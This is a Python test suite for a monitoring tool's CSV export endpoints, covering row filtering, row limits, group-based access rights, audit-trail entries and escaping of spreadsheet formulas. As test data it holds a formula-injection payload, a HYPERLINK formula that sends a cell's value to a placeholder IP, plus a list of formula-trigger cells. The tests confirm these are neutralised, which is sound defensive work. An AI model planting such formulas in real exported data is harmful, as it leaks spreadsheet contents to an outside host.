"""Tables leave as CSV: the rows of the screens, only what the reader may export, safe cells, and an entry in the audit trail each time."""

import csv
import hashlib
import io
import re
from datetime import UTC, datetime, timedelta
from typing import Any

import httpx
import pytest
from fastapi import FastAPI
from sqlmodel import select, text

from plumbline.drift import events
from plumbline.fleet import matrix, matrix_groups
from plumbline.infra.database import session_scope
from plumbline.models.audit import AuditEntry
from plumbline.reports import tables
from plumbline.reports.cells import csv_bytes, guarded
from tests.api.conftest import Ask
from tests.api.test_rights import operations
from tests.api.world import World

FORMULA = '=HYPERLINK("http://192.0.2.1/"&A1)'


def rows_of(answer: httpx.Response) -> list[dict[str, str]]:
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert re.fullmatch(r'attachment; filename="plumbline-[\w.-]+\.csv"', answer.headers["content-disposition"])
    return list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"))))


def acts(table: str) -> list[AuditEntry]:
    with session_scope() as session:
        found = session.exec(select(AuditEntry).where(AuditEntry.action == "table.exported").order_by(AuditEntry.id))  # type: ignore[arg-type]
        return [entry for entry in found if entry.after and entry.after["table"] == table]


def test_every_table_leaves_by_the_one_door_and_is_written_down(ask: Ask, app: FastAPI, world: World) -> None:
    named = {"host_id": world.hosts["sql-01"], "pack": "plumbline-core", "rule": "core.paths.two_healthy", "run_id": "999999"}
    exports = [(name, path) for name, _, path in operations(app) if "/exports/" in path]
    assert len(exports) >= 18
    with session_scope() as session:
        before = session.scalar(text("SELECT count(*) FROM audit_entry WHERE action = 'table.exported'"))  # type: ignore[call-overload]
    wanted = {"/exports/performance/charts.csv": f"?host={named['host_id']}"}
    for name, path in exports:
        query = next((query for end, query in wanted.items() if path.endswith(end)), "")
        answer = ask("viewer", "GET", re.sub(r"\{(\w+)\}", lambda found: named[found[1]], path) + query)
        if name == "export_run_hosts":
            assert answer.status_code == 404
            continue
        rows_of(answer)
        with session_scope() as session:
            entry = session.exec(select(AuditEntry).order_by(AuditEntry.id.desc()).limit(1)).one()  # type: ignore[union-attr]
        assert (entry.action, entry.actor.split()[-1]) == ("table.exported", "viewer"), name
        assert entry.after is not None
        assert entry.after["sha256"] == hashlib.sha256(answer.content).hexdigest(), name
    with session_scope() as session:
        after = session.scalar(text("SELECT count(*) FROM audit_entry WHERE action = 'table.exported'"))  # type: ignore[call-overload]
    assert after - before == len(exports) - 1


def test_rows_are_those_of_the_screen_under_its_filters(ask: Ask, world: World) -> None:
    shown = ask("viewer", "GET", "/hosts?platform=windows&sort=name&limit=500").json()["items"]
    rows = rows_of(ask("viewer", "GET", "/exports/hosts.csv?platform=windows&sort=name&limit=1"))
    assert [(row["host_id"], row["score"], row["fail"]) for row in rows] == [
        (host["id"], "" if host["score"] is None else str(host["score"]), str(host["n_fail"])) for host in shown
    ]
    assert acts("hosts")[-1].after == {
        "table": "hosts",
        "rows": len(shown),
        "filters": [["platform", "windows"], ["sort", "name"], ["limit", "1"]],
        "sha256": acts("hosts")[-1].after["sha256"],  # type: ignore[index]
    }
    chosen = [host["id"] for host in shown[:2]]
    rows = rows_of(ask("viewer", "GET", f"/exports/hosts.csv?host={chosen[0]}&host={chosen[1]}&sort=name"))
    assert [row["host_id"] for row in rows] == chosen
    assert ask("viewer", "GET", "/exports/hosts.csv?host=not-an-id").status_code == 422
    host = world.hosts["sql-01"]
    findings = ask("viewer", "GET", f"/hosts/{host}/findings").json()["items"]
    rows = rows_of(ask("viewer", "GET", f"/exports/hosts/{host}/findings.csv"))
    assert [(row["rule"], row["subject_id"], row["standing"]) for row in rows] == [
        (each["rule"], each["subject"]["id"], each["standing"]) for each in findings
    ]
    entry = acts("findings")[-1]
    assert (entry.object_kind, entry.object_id, entry.group_id) == ("host", host, world.groups["prod_b"])
    score = ask("viewer", "GET", f"/hosts/{host}/score").json()
    rows = rows_of(ask("viewer", "GET", f"/exports/hosts/{host}/score.csv"))
    assert int(100 - sum(float(row["points_lost"]) for row in rows) + 1e-9) == score["uncapped"]
    for row in rows:
        weight = float(row["band_points"]) * float(row["strength_factor"]) * float(row["fit"]) if row["source"] else 1.0
        assert float(row["weight"]) == pytest.approx(weight), row["rule"]


def test_a_long_list_is_whole_and_one_past_the_limit_is_refused(ask: Ask, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(tables, "PAGE", 2)
    total = ask("viewer", "GET", "/hosts?limit=1").json()["total"]
    assert len(rows_of(ask("viewer", "GET", "/exports/hosts.csv"))) == total > 2
    monkeypatch.setattr(tables, "MOST_ROWS", total - 1)
    written = len(acts("hosts"))
    answer = ask("viewer", "GET", "/exports/hosts.csv")
    assert (answer.status_code, answer.json()["code"]) == (422, "too_many_rows")
    assert "Narrow the filters" in answer.json()["detail"]
    assert len(acts("hosts")) == written


def test_what_a_page_shows_the_first_of_leaves_whole_or_not_at_all(ask: Ask, monkeypatch: pytest.MonkeyPatch) -> None:
    by_host, by_group = "/exports/matrix.csv?rules=all&hosts=true", "/exports/matrix.csv?by=group"
    hosts = rows_of(ask("viewer", "GET", by_host))
    monkeypatch.setattr(matrix, "MOST_HOSTS", 1)
    monkeypatch.setattr(matrix, "MOST_RULES", 1)
    monkeypatch.setattr(matrix_groups, "MOST_ROWS", 1)
    page = ask("viewer", "GET", "/matrix?rules=all&hosts=true").json()
    assert (len(page["hosts"]), len(page["rules"])) == (1, 1)
    assert rows_of(ask("viewer", "GET", by_host)) == hosts
    assert len(rows_of(ask("viewer", "GET", by_group))) > 1
    monkeypatch.setattr(tables, "MOST_MATRIX_HOSTS", len(hosts) - 1)
    assert ask("viewer", "GET", by_host).json()["code"] == "too_many_rows"
    with session_scope() as session:
        session.execute(
            text(
                "INSERT INTO setting_change (host_id, received_at, seq, subject_kind, subject_id, key, old, new, cause,"
                " cause_detail, alike) SELECT h.id, now(), 1, 'host', '', 'test.' || n, '{\"value\": 1}', '{\"value\": 2}', 'unknown',"
                " 'many ' || n, 'many ' || n FROM generate_series(1, 210) AS n, (SELECT min(id) AS id FROM host WHERE name = 'sql-01') AS h"
            )
        )
    try:
        assert len(rows_of(ask("viewer", "GET", "/exports/drift.csv?hours=1"))) >= 210
        monkeypatch.setattr(events, "MOST_CHANGES", 200)
        assert ask("viewer", "GET", "/exports/drift.csv?hours=1").json()["code"] == "too_many_rows"
    finally:
        with session_scope() as session:
            session.execute(text("DELETE FROM setting_change WHERE cause_detail LIKE 'many %'"))


def test_only_what_one_may_export_leaves(ask: Ask, world: World) -> None:
    everywhere = rows_of(ask("viewer", "GET", "/exports/hosts.csv"))
    theirs = rows_of(ask("prod-viewer", "GET", "/exports/hosts.csv"))
    assert {row["host"] for row in theirs} == {"sql-01", "sql-02", "esx-01"} < {row["host"] for row in everywhere}
    outside = world.hosts["lab-01"]
    assert ask("prod-viewer", "GET", f"/exports/hosts/{outside}/settings.csv").status_code == 404
    assert ask("prod-viewer", "GET", f"/exports/matrix.csv?group={world.groups['lab']}").status_code == 404
    # One who reads everything as operator and exports PROD-B as viewer takes along PROD-B alone.
    with session_scope() as session:
        session.execute(
            text("INSERT INTO role_grant (person_id, role, group_id) VALUES (:who, 'viewer', :group)"),
            {"who": world.people["operator"], "group": world.groups["prod_b"]},
        )
    try:
        assert {row["host"] for row in rows_of(ask("operator", "GET", "/exports/hosts.csv"))} == {"sql-01", "sql-02", "esx-01"} & {
            host["name"] for host in ask("operator", "GET", f"/hosts?group={world.groups['prod_b']}").json()["items"]
        }
        assert ask("operator", "GET", f"/hosts/{outside}/settings").status_code == 200
        refused = ask("operator", "GET", f"/exports/hosts/{outside}/settings.csv")
        assert (refused.status_code, "table.export" in refused.json()["detail"]) == (403, True)
        assert ask("operator", "GET", f"/exports/drift.csv?group={world.groups['lab']}").status_code == 403
    finally:
        with session_scope() as session:
            session.execute(text("DELETE FROM role_grant WHERE person_id = :who AND role = 'viewer'"), {"who": world.people["operator"]})


def test_waivers_keep_their_state_and_reasons_are_no_formulas(ask: Ask, world: World) -> None:
    host = world.hosts["sql-01"]
    failing = next(each for each in ask("viewer", "GET", f"/hosts/{host}/findings").json()["items"] if each["standing"] == "fail")
    asked: dict[str, Any] = {
        "pack": failing["pack"],
        "rule": failing["rule"],
        "host_ids": [host],
        "reason": FORMULA,
        "expires_at": (datetime.now(UTC) + timedelta(days=5)).isoformat(),
    }
    made = ask("operator", "POST", "/waivers", json=asked).json()
    assert ask("approver", "POST", f"/waivers/{made['id']}/approve").status_code == 200
    row = next(each for each in rows_of(ask("viewer", "GET", "/exports/waivers.csv")) if each["id"] == str(made["id"]))
    assert row["reason"] == f"'{FORMULA}"
    assert (row["state"], row["approved_by"], row["findings_waived_now"] != "0") == ("active", "Approver", True)
    waived = rows_of(ask("viewer", "GET", f"/exports/hosts/{host}/findings.csv"))
    # The outcome stays what it is; the waiver stands beside it.
    assert {(each["outcome"], each["standing"]) for each in waived if each["waiver"] == str(made["id"])} == {("fail", "waived")}
    with session_scope() as session:
        session.execute(text("UPDATE waiver SET expires_at = now() - interval '1 second' WHERE id = :id"), {"id": made["id"]})
    row = next(each for each in rows_of(ask("viewer", "GET", "/exports/waivers.csv")) if each["id"] == str(made["id"]))
    assert row["state"] == "expired"
    assert rows_of(ask("viewer", "GET", "/exports/waivers.csv?state=active")) == []


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@x", "\tx", "\nx", "  =1", "\u00a0=1", "＝1"])
def test_no_text_is_a_formula(cell: str) -> None:
    assert guarded(cell).startswith("'")
    assert guarded(-3) == "-3"
    line = csv_bytes([[["plain", cell], {"reason": cell}, True, None, datetime(2026, 11, 22, tzinfo=UTC)]]).decode("utf-8-sig")
    first, record, *rest = next(csv.reader(io.StringIO(line)))
    assert first == f"plain; '{cell}"
    assert record.startswith("{")
    assert rest == ["yes", "", "2026-11-22T00:00:00Z"]


def test_a_semicolon_in_a_name_begins_no_cell_where_semicolons_separate() -> None:
    written = csv_bytes([["sql;=1+1", 'a"b', 3]])
    assert written.decode("utf-8-sig") == '"sql;=1+1","a""b","3"\r\n'
    assert next(csv.reader(io.StringIO(written.decode("utf-8-sig")), delimiter=";"))[0].startswith("sql;=1+1")
